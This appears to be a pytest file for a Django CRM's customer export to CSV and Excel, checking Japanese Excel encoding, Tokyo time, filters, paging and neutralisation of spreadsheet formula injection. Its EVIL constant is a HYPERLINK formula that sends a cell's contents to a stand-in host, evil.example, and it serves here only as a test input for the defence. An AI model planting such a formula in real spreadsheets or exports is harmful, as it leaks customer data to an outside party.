"""Exporting the customer list to CSV and Excel: what Japanese Excel opens, with formulas
typed into customer data neutralised, and the list's filters applied."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils import timezone, translation
from openpyxl import load_workbook

from crm import exporting
from crm.exporting import Column, neutralise, write_xlsx
from customers.models import Customer
from customers.selectors import export_rows
from tests.customers.factories import CustomerFactory, TagFactory

pytestmark = pytest.mark.django_db
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def download(client, query: str, **extra):
    response = client.get(f"/customers/export/?{query}", **{**EN, **extra})
    assert response.status_code == 200, response.status_code
    assert response.streaming
    return response, b"".join(response.streaming_content)


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+81 90", "'+81 90"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("山田 =1", "山田 =1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_for_japanese_excel(client_as, sales):
    customer = CustomerFactory(
        family_name=EVIL,
        given_name="太郎",
        family_name_kana="ヤマダ",
        phone="09012345678",
        prefecture="13",
        birthday=datetime(1990, 2, 3).date(),
        created_at=datetime(2026, 1, 31, 15, 30, tzinfo=UTC),
    )
    customer.tags.add(TagFactory(name="VIP"), TagFactory(name="定期便"))
    response, body = download(client_as(sales), "format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="customers-')
    assert body.startswith("\ufeff".encode())  # the BOM Excel needs to read UTF-8
    header, row = csv_rows(body)
    record = dict(zip(header, row, strict=True))
    assert header[:3] == ["external ID", "family name", "given name"]
    assert record["family name"] == "'" + EVIL
    assert record["given name"] == "太郎"
    assert record["family name (kana)"] == "ヤマダ"
    assert record["phone"] == "09012345678"
    assert record["prefecture"] == "Tokyo"
    assert record["birthday"] == "1990-02-03"
    assert sorted(record["tags"].split(", ")) == ["VIP", "定期便"]
    assert record["e-mail consent"] == "no"
    assert record["created at"] == "2026-02-01 00:30:00"  # Tokyo time


def test_csv_speaks_the_users_language(client_as, sales):
    # The rows are written while the response streams, after the view returned: they must
    # still come out in the language of the request.
    CustomerFactory(gender="female", prefecture="13")
    response = client_as(sales).get("/customers/export/?format=csv", HTTP_ACCEPT_LANGUAGE="ja")
    with translation.override("en"), timezone.override(UTC):
        body = b"".join(response.streaming_content)
    header, row = csv_rows(body)
    record = dict(zip(header, row, strict=True))
    assert header[0] == "外部ID"
    assert "女性" in row
    assert "東京都" in row
    assert record["外部ID"]


def test_export_applies_the_list_filters_and_exports_every_page(client_as, sales):
    for n in range(60):
        CustomerFactory(external_id=f"OSAKA-{n:03d}", prefecture="27")
    CustomerFactory(external_id="TOKYO-1", prefecture="13")
    _response, body = download(client_as(sales), "format=csv&prefecture=27&after=1.1")
    ids = [row[0] for row in csv_rows(body)[1:]]
    assert sorted(ids) == [f"OSAKA-{n:03d}" for n in range(60)]


def test_export_search_uses_the_same_normalisation(client_as, sales):
    CustomerFactory(external_id="A", family_name_kana="ヤマダ")
    CustomerFactory(external_id="B", family_name_kana="サトウ")
    _response, body = download(client_as(sales), "format=csv&q=ﾔﾏﾀﾞ")
    assert [row[0] for row in csv_rows(body)[1:]] == ["A"]


def test_xlsx_opens_with_openpyxl(client_as, sales):
    CustomerFactory(
        external_id="EC-1",
        family_name=EVIL,
        given_name="+太郎",
        address="-1丁目\x07",
        created_at=datetime(2026, 1, 31, 15, 30, tzinfo=UTC),
    )
    response, body = download(client_as(sales), "format=xlsx")
    assert response["Content-Type"] == exporting.XLSX_CONTENT_TYPE
    assert 'filename="customers-' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(values_only=True))
    header, row = rows
    record = dict(zip(header, row, strict=True))
    assert record["external ID"] == "EC-1"
    assert record["family name"] == "'" + EVIL
    assert record["given name"] == "'+太郎"
    assert record["address"] == "'-1丁目"  # control characters Excel cannot hold are dropped
    assert record["created at"] == datetime(2026, 2, 1, 0, 30)
    # Stored as text, not as a formula Excel would run.
    assert sheet.cell(row=2, column=2).data_type == "s"


def test_xlsx_continues_on_a_new_sheet_beyond_the_row_limit(monkeypatch):
    monkeypatch.setattr(exporting, "XLSX_ROWS_PER_SHEET", 2)
    file = io.BytesIO()
    columns = [Column("n", lambda n: n)]
    assert write_xlsx(file, columns, range(5), sheet_title="Numbers") == 5
    workbook = load_workbook(file)
    assert workbook.sheetnames == ["Numbers", "Numbers 2", "Numbers 3"]
    assert [[c.value for c in row] for row in workbook["Numbers 3"].iter_rows()] == [["n"], [4]]


def test_empty_export_has_the_header(client_as, sales):
    _response, body = download(client_as(sales), "format=csv&q=存在しない")
    assert len(csv_rows(body)) == 1
    response = client_as(sales).get("/customers/export/?format=xlsx&q=存在しない")
    rows = list(load_workbook(io.BytesIO(response.getvalue())).active.iter_rows(values_only=True))
    assert len(rows) == 1


def test_unknown_format_goes_back_to_the_list(client_as, sales):
    client = client_as(sales)
    response = client.get("/customers/export/?format=pdf&prefecture=13", **EN)
    assert response.status_code == 302
    assert response["Location"] == "/customers/?format=pdf&prefecture=13"
    assert (
        "Choose CSV or Excel to export." in client.get(response["Location"], **EN).content.decode()
    )


def test_the_list_links_to_both_formats_with_its_filters(client_as, sales):
    CustomerFactory(prefecture="13")
    html = client_as(sales).get("/customers/?prefecture=13", **EN).content.decode()
    assert 'href="/customers/export/?prefecture=13&amp;format=csv"' in html
    assert 'href="/customers/export/?prefecture=13&amp;format=xlsx"' in html


def test_anonymous_cannot_export(csrf_client):
    response = csrf_client.get("/customers/export/?format=csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_export_rows_reads_every_row_once_in_chunks():
    vip = TagFactory(name="VIP")
    customers = CustomerFactory.create_batch(20)
    for customer in customers[::3]:
        customer.tags.add(vip)
    rows = list(export_rows(Customer.objects.all(), chunk_size=7))
    assert [c.pk for c in rows] == sorted((c.pk for c in customers), reverse=True)
    assert [c.tag_names for c in rows if c.tag_names] == [["VIP"]] * 7


def test_xlsx_keeps_each_kind_of_value(settings):
    # Read back by openpyxl, an independent reader of the format: every kind of value a
    # column can give comes back as itself, text that looks like markup stays text.
    settings.TIME_ZONE = "Asia/Tokyo"
    values = [
        "a < b & c > d",
        "  spaces kept  ",
        "壊れた\ud800文字",
        True,
        False,
        42,
        Decimal("1980.50"),
        date(2024, 2, 29),
        datetime(2026, 1, 31, 15, 30, 15, tzinfo=UTC),
        None,
        "=1+1",
    ]
    columns = [Column(f"c{n}", lambda row, n=n: row[n]) for n in range(len(values))]
    file = io.BytesIO()
    with timezone.override("Asia/Tokyo"):
        assert write_xlsx(file, columns, [values], sheet_title="A & <B>") == 1
    workbook = load_workbook(file)
    assert workbook.sheetnames == ["A & <B>"]
    header, row = workbook.active.iter_rows()
    assert [c.value for c in header] == [f"c{n}" for n in range(len(values))]
    assert [c.value for c in row] == [
        "a < b & c > d",
        "  spaces kept  ",
        "壊れた文字",
        True,
        False,
        42,
        1980.5,
        datetime(2024, 2, 29),
        datetime(2026, 2, 1, 0, 30, 15),
        None,
        "'=1+1",
    ]
    assert row[7].number_format == "yyyy-mm-dd"
    assert row[8].number_format == "yyyy-mm-dd h:mm:ss"
